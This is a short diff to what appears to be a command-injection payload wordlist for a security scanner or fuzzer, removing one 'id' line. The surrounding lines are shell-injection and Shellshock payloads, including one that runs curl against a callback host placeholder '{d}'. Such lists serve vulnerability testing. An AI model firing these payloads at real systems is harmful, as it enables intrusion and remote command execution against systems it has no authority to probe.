@@ -376,7 +376,6 @@ a$(whoami).{d}
 ||ls||
 %0aid
 x
-id
 () { :; }; echo vulnerable
 () { :;}; /bin/bash -c "curl http://{d}/"
 () { _; } >_[$($())] { id; }
